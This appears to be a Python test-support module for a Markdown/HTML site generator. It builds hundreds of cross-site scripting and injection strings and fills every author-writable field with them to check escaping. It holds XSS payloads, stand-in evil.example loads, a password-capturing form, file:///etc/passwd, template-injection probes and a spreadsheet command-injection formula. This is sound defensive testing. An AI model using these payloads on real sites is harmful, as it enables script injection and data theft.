"""Texts that try to run or load something, and strategies that hold them in every field an author
can fill.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from itertools import product
from typing import Any

from generator.schema.vocabulary import Field
from tests.sample import complete

_CODE = "window.hit=1"
_LOADING = (
    "img",
    "image",
    "iframe",
    "embed",
    "video",
    "audio",
    "source",
    "input type=image",
    "track",
    "script",
)
_HANDLERS = (
    "onload",
    "onerror",
    "onfocus autofocus",
    "onmouseover",
    "ontoggle open",
    "onanimationstart",
    "onpointerenter",
)
_CARRIERS = (
    "svg",
    "body",
    "details",
    "input",
    "a",
    "math",
    "marquee",
    "select",
    "div style=animation-name:x",
)
_SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java&#115;cript:{}",
    "javascript&colon;{}",
    " javascript:{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "//evil.example/x",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
)
_OTHERS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script >{}</script >",
    "<script/x>{}</script>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "</article></main><script>{}</script>",
    "--><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "`><script>{}</script>",
    '" onmouseover="{}',
    "' onmouseover='{}",
    '" autofocus onfocus="{}" x="',
    '"></a><img src=x onerror={}>',
    '<a href="javascript:{}">press</a>',
    "<form action=javascript:{}><button>press</button></form>",
    "<button formaction=javascript:{}>press</button>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{{background:url(https://evil.example/x)}}</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    "<object data=https://evil.example/x></object>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{}'/></svg>#x\"/></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></iframe></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<template><script>{}</script></template>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "<dialog open onclose={}>x</dialog>",
    "<x onclick={} tabindex=1 id=x>x</x>",
    "<a id=__config>x</a>",
    "<form name=document>x</form>",
    "{{{{ 7 * 7 }}}}",
    "{{% include 'home.html' %}}",
    "{{{{ config }}}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "{{{{constructor.constructor('{}')()}}}}",
    "[press](javascript:{})",
    "[press](<javascript:{}>)",
    "![x](https://evil.example/x.png)",
    '![x](x" onerror="{})',
    "[x]: javascript:{}",
    "<javascript:{}>",
    "[press](data:text/html,<script>{}</script>)",
    '[x](https://evil.example/" onmouseover="{})',
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "*/{}/*",
    "';{}//",
    '");{}//',
    "]]>{}",
    "=cmd|' /C calc'!A0",
)

STRINGS: Sequence[str] = (
    *(text.format(_CODE) for text in _OTHERS),
    *(f"<{tag} src=https://evil.example/x href=https://evil.example/x data=x>" for tag in _LOADING),
    *(f"<{tag} {handler}={_CODE}>x" for tag, handler in product(_CARRIERS, _HANDLERS)),
    *(f'<a href="{scheme.format(_CODE)}">press</a>' for scheme in _SCHEMES),
    *(f"[press]({scheme.format(_CODE).strip()})" for scheme in _SCHEMES),
)


_ATTRIBUTES = (
    "onclick={}",
    "onfocus={} tabindex=0 autofocus",
    "style='position:fixed;inset:0'",
    "style=background:url(https://evil.example/x)",
    "id=__config",
    "id=__palette_0",
    "class=md-overlay",
    "class='md-dialog md-dialog--active'",
    "data-md-component=search",
    "srcdoc=x",
    "formaction=javascript:{}",
    "href=javascript:{}",
    "src=https://evil.example/x",
    "ping=https://evil.example/x",
    "background=https://evil.example/x",
    "popover autofocus",
)
_ELEMENTS = (
    "p",
    "div",
    "a href=x",
    "img alt=x",
    "details open",
    "table",
    "span",
    "h2",
    "svg",
    "input type=checkbox",
    "label",
)
_ROUNDABOUT = (
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<META HTTP-EQUIV='refresh' CONTENT='0;url=javascript:{}'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password><button>send</button></form>",
    "<form id=x action=https://evil.example/></form><button form=x>send</button>",
    "<isindex action=https://evil.example/>",
    "<div><iframe src=https://evil.example/x></iframe></div>",
    "<iframe srcdoc='&lt;script&gt;parent.hit=1&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>parent.hit=1</script>'></object>",
    "<object type=text/html data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<applet code=x></applet>",
    "<frameset><frame src=https://evil.example/x></frameset>",
    "<portal src=https://evil.example/x></portal>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<link rel=preconnect href=https://evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=modulepreload href=https://evil.example/x.js>",
    "<script type=module>{}</script>",
    '<script type=speculationrules>{{"prefetch": [{{"urls": ["https://evil.example/"]}}]}}</script>',
    '<script type=importmap>{{"imports": {{"x": "https://evil.example/x"}}}}</script>',
    "<script async src=https://evil.example/x.js></script>",
    "<script src=data:text/javascript,{}></script>",
    "<script>{}",
    "<style>@import url(https://evil.example/x);</style>",
    "<style>body{{display:none}}</style>",
    "<svg><style>@import url(https://evil.example/x);</style></svg>",
    "<svg onload={}></svg>",
    "<svg><set onbegin={} attributeName=x></svg>",
    "<svg><a xlink:href=javascript:{}><text y=20>press</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:{} /><text y=20>press</text></a></svg>",
    "<svg><image href=https://evil.example/x></image></svg>",
    "<svg><feImage href=https://evil.example/x></feImage></svg>",
    "<svg><use href=https://evil.example/x#y></use></svg>",
    "<svg><path fill='url(https://evil.example/x#y)' d='M0 0h9v9z'></path></svg>",
    "<math href=javascript:{}>press</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>press</maction></math>",
    "<math><annotation-xml encoding=text/html><script>{}</script></annotation-xml></math>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<select><template shadowrootmode=open><script>{}</script></template></select>",
    "<div><template shadowrootmode=open><slot onslotchange={}></slot></template></div>",
    "<video><source onerror={} src=x></video>",
    "<video poster=https://evil.example/x></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<picture><source srcset='x.png, https://evil.example/x 2x'><img alt=x></picture>",
    "<img srcset='https://evil.example/x 1x' alt=x>",
    "<img src='//evil.example/x' alt=x>",
    "<img src='\\\\evil.example/x' alt=x>",
    "<img src='/\\evil.example/x' alt=x>",
    "<img src=' https://evil.example/x' alt=x>",
    "<img src='ht\ttps://evil.example/x' alt=x>",
    "<img src='&#104;ttps://evil.example/x' alt=x>",
    "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/x alt=x>",
    "<table background=https://evil.example/x><tr><td>x</td></tr></table>",
    "<body background=https://evil.example/x onload={}>",
    "<html manifest=https://evil.example/x>",
    "<head><base href=https://evil.example/></head>",
    "<marquee onstart={}>x</marquee>",
    "<keygen autofocus onfocus={}>",
    "<input autofocus onfocus={}>",
    "<input type=image src=https://evil.example/x>",
    "<textarea autofocus onfocus={}></textarea>",
    "<button onclick={} popovertarget=x>press</button>",
    "<dialog open class=pb-finder>covered</dialog>",
    "<div id=pb-finder data-finder-open>covered</div>",
    '<div id=__config>{{"base": "https://evil.example/", "features": []}}</div>',
    "<a id=__md_scope href=https://evil.example/>x</a>",
    "<a id=document$ name=location$>x</a>",
    "<img name=currentScript alt=x><form name=forms></form>",
    "<div class=md-consent__overlay>covered</div>",
    "<div class='md-search__overlay' style='position:fixed;top:0;left:0;width:100vw;height:100vh'>covered</div>",
    "</article></main></div><script>{}</script>",
    "</body></html><script>{}</script>",
    "<!-- --!><script>{}</script> -->",
    "<!--><script>{}</script>",
    "<!-- <script>{}</script>",
    "<![CDATA[><script>{}</script>]]>",
    "<?php echo '<script>{}</script>' ?>",
    "<?x <script>{}</script>",
    "<!DOCTYPE html><script>{}</script>",
    "<plaintext>",
    "<xmp><script>{}</script></xmp>",
    "<noembed><script>{}</script></noembed>",
    "<title><script>{}</script></title>",
    "<a href='java&#10;script:{}'>press</a>",
    "<a href='java&Tab;script:{}'>press</a>",
    "<a href='&#x01;javascript:{}'>press</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4='>press</a>",
    "<a href=view-source:javascript:{}>press</a>",
    "<a href=filesystem:https://evil.example/x>press</a>",
    "<a target=_blank href=blob:x>press</a>",
    "<area href=javascript:{}>",
    "<map name=x><area shape=default href=javascript:{}></map><img usemap=#x alt=x>",
    "[press][x]\n\n[x]: javascript:{}",
    "[press][x]\n\n[x]: <data:text/html,<script>{}</script>>",
    "[press](JaVaScRiPt:{})",
    "[press](java&#115;cript:{})",
    "![x](https://evil.example/x.png)",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "![x](//evil.example/x.png)",
    "![x](x.png){{ onerror={} }}",
    "[press](x.md){{ onclick={} }}",
    "[press](x.md){{ href=javascript:{} }}",
    "A line\n{{: onclick={} style='position:fixed' }}",
    "## A heading {{ #__config onclick={} }}",
    "## A heading {{ data-toc-label='<script>{}</script>' }}",
    "**a**{{: onmouseover={} }}",
    "<div markdown onclick={}>\n\n**x**\n\n</div>",
    "<div markdown><script>{}</script></div>",
    "<iframe markdown src=https://evil.example/x></iframe>",
    "<p markdown='1'><img src=x onerror={}></p>",
    '!!! note "<script>{}</script>"\n\n    <script>{}</script>',
    '??? note "<img src=x onerror={}>"\n\n    <iframe src=https://evil.example/x></iframe>',
    '=== "<script>{}</script>"\n\n    <script>{}</script>',
    "a[^1]\n\n[^1]: <script>{}</script>",
    "*[HTML]: <script>{}</script>\n\nHTML",
    "term\n:   <script>{}</script>",
    "- [ ] <script>{}</script>",
    "1. <img src=x onerror={}>",
    "| a |\n| - |\n| <img src=x onerror={}> |",
    "> <script>{}</script>",
    "``` {{ .py onclick={} title='<script>{}</script>' }}\nx\n```",
    '``` mermaid\ngraph LR\n  A["<img src=x onerror={}>"] --> B\n  click A "javascript:{}"\n```',
    "$<script>{}</script>$",
    "\\(<img src=x onerror={}>\\)",
    '++ctrl+"<script>{}</script>"++',
    ":material-heart:{{ onclick={} }}",
    "/// html | iframe[src=https://evil.example/x]\n///",
    "/// html | div[onclick={}]\nx\n///",
    "/// caption\n<script>{}</script>\n///",
    '--8<-- "../mkdocs.yml"',
    "{{{{ config.site_name }}}}<script>{}</script>",
)
IN_PAGES: Sequence[str] = (
    *dict.fromkeys(
        (
            *STRINGS,
            *(text.format(*[_CODE] * 3) for text in _ROUNDABOUT),
            *(
                f"<{element} {attribute.format(_CODE)}>x</{element.split()[0]}>"
                for element, attribute in product(_ELEMENTS, _ATTRIBUTES)
            ),
        )
    ),
)
"""What somebody may write into a page by hand: the same, and all that raw HTML and the extensions of
Markdown offer.
"""


def fill(field: Field, text: str) -> Any:
    """A value of a field with the text wherever an author may write; None where there is nowhere
    to.
    """
    if field.type in ("plain", "prose"):
        return text
    if field.type == "list" and field.item is not None:
        inner = fill(field.item, text)
        return None if inner is None else [inner]
    if field.type == "object":
        values = {name: fill(inner, text) for name, inner in field.fields.items()}
        needed = [name for name, inner in field.fields.items() if inner.required]
        if any(values[name] is None for name in needed):
            return None
        return {name: value for name, value in values.items() if value is not None} or None
    if field.type == "enum" and field.required:
        return next(iter(field.labels))
    return None


def fill_entry(kind: str, fields: Mapping[str, Field], number: int, text: str) -> dict[str, Any]:
    """An entry with the text in every field that takes one."""
    filled = {
        name: value for name, field in fields.items() if (value := fill(field, text)) is not None
    }
    kept = ("id", "former_ids", "accounts", "status", "audience", "custom")
    values = {
        name: value
        for name, value in filled.items()
        if name not in kept and fields[name].type != "enum"
    }
    return complete(kind, {**values, "id": f"one-{number}"})
